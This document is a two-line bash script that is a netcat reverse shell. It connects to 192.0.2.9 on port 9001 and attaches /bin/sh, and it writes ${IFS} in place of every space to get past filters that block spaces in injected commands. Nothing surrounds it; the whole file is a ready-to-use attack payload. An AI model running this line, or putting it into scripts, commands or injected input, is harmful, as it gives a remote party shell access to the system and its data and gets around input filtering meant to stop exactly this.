#!/bin/bash
nc${IFS}192.0.2.9${IFS}9001${IFS}-e${IFS}/bin/sh
